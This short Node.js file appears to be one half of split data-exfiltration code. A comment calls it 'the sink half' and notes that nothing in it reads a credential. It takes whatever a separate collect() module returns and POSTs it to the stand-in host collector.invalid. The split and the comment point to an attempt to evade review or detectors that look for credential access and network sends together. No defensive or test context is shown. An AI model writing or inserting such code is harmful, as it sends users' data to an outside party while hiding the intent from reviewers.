// The sink half: nothing here reads a credential.
const https = require('https');
const { collect } = require('./lib/collect');

const body = collect();
const req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });
req.write(body);
req.end();
